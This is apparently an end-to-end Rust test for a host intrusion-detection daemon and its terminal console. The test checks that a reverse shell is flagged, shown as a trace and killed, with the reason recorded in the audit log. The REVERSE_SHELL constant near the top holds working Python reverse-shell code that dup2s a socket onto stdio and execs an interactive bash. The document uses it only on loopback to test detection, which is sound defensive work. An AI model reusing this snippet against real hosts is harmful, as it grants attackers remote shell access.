//! Issue 12's "done when", in a real terminal (tmux) against a real
//! perchd: a reverse shell on loopback (python connects to this test's
//! listener, puts the socket on its stdin, stdout and stderr, and execs
//! `bash -i`) makes a trace appear on the console's Traces screen; Enter
//! shows its tree with the flag on the shell; `k`, then Kill, opens the
//! dialog with the reason pre-filled (`trace <name>: <trigger>`);
//! KILL is confirmed, the shell dies, and the audit log holds the action
//! with that reason.  Every key waits for the screen it acts on, and every
//! screen read must be a whole frame.
#![expect(
    clippy::expect_used,
    reason = "test support: a broken fixture or environment should fail the test loudly"
)]
use std::{
    net::TcpListener,
    os::unix::process::CommandExt as _,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use perch_e2e::{Perchd, alive, binary, have_root_or_skip, procs::ChildGuard, tmux::Tmux};
use perch_proto::v1::{self as pb, AuditStage, Signal};

const WAIT: Duration = Duration::from_secs(20);

const REVERSE_SHELL: &str = "
import os, socket, sys
s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv('/bin/bash', ['bash', '-i'])
";

/// A whole frame: the tab bar and the footer's last key are on it (the
/// console writes a frame in more than one write under load).
fn whole(s: &str) -> bool {
    s.contains("p Processes")
        && s.lines()
            .rev()
            .find(|l| !l.trim().is_empty())
            .is_some_and(|l| l.contains("Quit"))
}

/// The reverse shell, in a session of its own (setsid before exec, so it
/// roots its own trace), connected back to `port`.
fn reverse_shell(port: u16) -> ChildGuard {
    let mut cmd = Command::new("/usr/bin/python3");
    cmd.arg("-c")
        .arg(REVERSE_SHELL)
        .arg(port.to_string())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    // SAFETY: setsid(2) is async-signal-safe.
    unsafe {
        cmd.pre_exec(|| {
            libc::setsid();
            Ok(())
        });
    }
    ChildGuard::spawn(&mut cmd)
}

/// perchd's trace rooted at or holding a reverse-shell flag on `pid`.
async fn trace_of(perchd: &Perchd, pid: u32) -> pb::Trace {
    let mut client = perchd.client().await.expect("client");
    let deadline = Instant::now() + WAIT;
    loop {
        let flags = client
            .list_flags(pb::ListFlagsRequest {
                limit: 10_000,
                ..Default::default()
            })
            .await
            .expect("ListFlags")
            .into_inner()
            .flags;
        let id = flags
            .iter()
            .find(|f| f.rule_id == "reverse_shell" && f.process.is_some_and(|k| k.pid == pid))
            .map(|f| f.trace_id.clone());
        if let Some(id) = id.filter(|id| !id.is_empty()) {
            let traces = client
                .list_traces(pb::ListTracesRequest {
                    id,
                    ..Default::default()
                })
                .await
                .expect("ListTraces")
                .into_inner()
                .traces;
            if let Some(t) = traces.into_iter().next() {
                return t;
            }
        }
        assert!(
            Instant::now() < deadline,
            "no reverse_shell flag on {pid} within {WAIT:?}: {flags:#?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_reverse_shell_is_a_trace_and_k_kills_it_with_the_reason_audited() {
    if !have_root_or_skip("a_reverse_shell_is_a_trace_and_k_kills_it_with_the_reason_audited") {
        return;
    }
    let perchd = Perchd::start(&[]).await;
    let tmux = Tmux::start(&format!(
        "{} --socket {}",
        binary("perch").display(),
        perchd.socket.display()
    ));
    tmux.wait_for("the console", |s| {
        whole(s) && s.contains("CPU%") && s.contains("connected")
    });
    tmux.keys(&["y"]);
    tmux.wait_for("the Traces screen", |s| {
        whole(s) && s.contains("SCORE") && s.contains("NAME/TRIGGER")
    });

    // The reverse shell starts while the console watches: its trace comes
    // by the event stream.
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let shell = reverse_shell(port);
    // Held open: the shell reads its commands from it.
    let (_conn, _) = listener.accept().expect("the reverse shell connects");
    let pid = shell.pid();
    let trace = trace_of(&perchd, pid).await;
    // The trigger is the trace's first flag: reverse_shell, or the dup2 of
    // a socket onto stdio before the exec where that rule exists.
    let trigger = trace.trigger_short_name.clone();
    let reason = format!("trace {}: {trigger}", trace.name);
    let root = format!(
        "{} {}",
        trace.root.map_or(0, |k| k.pid),
        trace.root_proc_name
    );
    tmux.wait_for("the trace on the Traces screen", |s| {
        whole(s)
            && s.lines()
                .any(|l| l.contains(&format!("{trigger} ·")) && l.contains(&root))
    });

    // Filtered to this shell's trace (other shells on this host may have
    // theirs).
    tmux.keys(&["\\"]);
    tmux.wait_for("the filter prompt", |s| whole(s) && s.contains("Filter: "));
    let text = format!("rule:{trigger} pid:{}", trace.root.map_or(0, |k| k.pid));
    tmux.keys(&["-l", &text]);
    let row = format!("{trigger} · {}", trace.name);
    let screen = tmux.wait_for("the trace's row", |s| {
        whole(s)
            && s.contains(&format!("Filter: {text}"))
            && s.contains("1 shown")
            && s.lines().any(|l| l.contains(&format!("{trigger} ·")))
    });
    assert!(
        screen.contains(&row[..row.len().min(40)]),
        "the row names the trigger and the trace:\n{screen}"
    );
    // Enter keeps the filter and closes the prompt; Enter again opens the
    // trace: its tree, with the flag on the shell.
    tmux.keys(&["Enter"]);
    tmux.keys(&["Enter"]);
    // The shell's line: `bash (PID) [high reverse_shell]` (after any
    // other flag on the same process; ` xN` for repeats).
    let flagged = |l: &str| l.contains(&format!("({pid}) [")) && l.contains(" reverse_shell");
    let tree = tmux.wait_for("the trace's tree", |s| {
        whole(s) && s.contains(&trace.id) && s.lines().any(flagged) && s.contains("Flags, oldest")
    });
    assert!(
        tree.lines()
            .any(|l| l.contains("reverse_shell") && l.contains("T1059")),
        "the flag list has the flag and its MITRE technique:\n{tree}"
    );
    // The reverse-shell flag alone is `high`; the shell's stdio dup'd onto
    // the socket is a second distinct flag, which makes the trace notable.
    assert!(tree.contains("(notable)"), "the trace is notable:\n{tree}");
    select_shell(&tmux, &tree, pid);

    // k, Kill process: the dialog with the reason pre-filled.
    tmux.keys(&["k"]);
    tmux.wait_for("the action menu", |s| s.contains(&format!("Act on {pid}")));
    tmux.keys(&["Enter"]);
    let dialog = tmux.wait_for("the dialog at TERM", |s| {
        s.contains("YES, KILL PROCESS") && s.contains("◀ TERM ▶")
    });
    assert!(
        dialog.contains(&format!(": {trigger}")),
        "the reason is pre-filled:\n{dialog}"
    );
    // An interactive bash ignores TERM: KILL (Up to the signal, Right).
    tmux.keys(&["Up"]);
    tmux.keys(&["Right"]);
    tmux.wait_for("the dialog at KILL", |s| s.contains("◀ KILL ▶"));
    tmux.keys(&["Enter", "Enter"]);
    let done = tmux.wait_for("KILL's result", |s| {
        s.contains("SUCCESS") || s.contains("FAIL")
    });
    assert!(done.contains("SUCCESS"), "{done}");
    let deadline = Instant::now() + Duration::from_secs(10);
    while alive(pid) {
        assert!(
            Instant::now() < deadline,
            "the shell is still alive after KILL"
        );
        std::thread::sleep(Duration::from_millis(50));
    }

    check_audit(&perchd, &reason, pid);
    tmux.keys(&["q"]);
}

/// Moves the tree view's cursor to the shell: the footer names the process
/// `k` acts on.
fn select_shell(tmux: &Tmux, tree: &str, pid: u32) {
    // The cursor starts on the root; k acts on the selected process: go
    // down the tree to the shell (it is the root itself when python,
    // which became bash, started the session).
    let acts_on = format!("k acts on {pid} ");
    let target = |s: &str| {
        s.lines()
            .find(|l| l.contains("k acts on"))
            .map(str::to_owned)
    };
    let mut now = target(tree);
    for _ in 0..8 {
        if now.as_ref().is_some_and(|l| l.contains(&acts_on)) {
            break;
        }
        tmux.keys(&["Down"]);
        let moved = tmux.wait_for("the cursor on the next process", |s| {
            whole(s) && target(s).is_some() && target(s) != now
        });
        now = target(&moved);
    }
    assert!(
        now.as_ref().is_some_and(|l| l.contains(&acts_on)),
        "the shell is in the tree: {now:?}\n{tree}"
    );
}

/// The audit log: intent and result of the KILL, with the pre-filled reason.
fn check_audit(perchd: &Perchd, reason: &str, pid: u32) {
    // The audit log: intent and result, with the pre-filled reason.
    let log: Vec<_> = perch_audit::read(&perchd.audit_log)
        .expect("audit log")
        .map(|e| e.expect("verifies").record)
        .collect();
    let ours: Vec<_> = log.iter().filter(|r| r.reason == *reason).collect();
    let stages: Vec<(AuditStage, Signal)> = ours.iter().map(|r| (r.stage(), r.signal())).collect();
    assert_eq!(
        stages,
        [
            (AuditStage::Intent, Signal::Kill),
            (AuditStage::Result, Signal::Kill)
        ],
        "reason {reason:?} in {log:#?}"
    );
    for r in ours {
        assert_eq!(
            r.target.as_ref().and_then(|t| t.key).map(|k| k.pid),
            Some(pid)
        );
    }
}
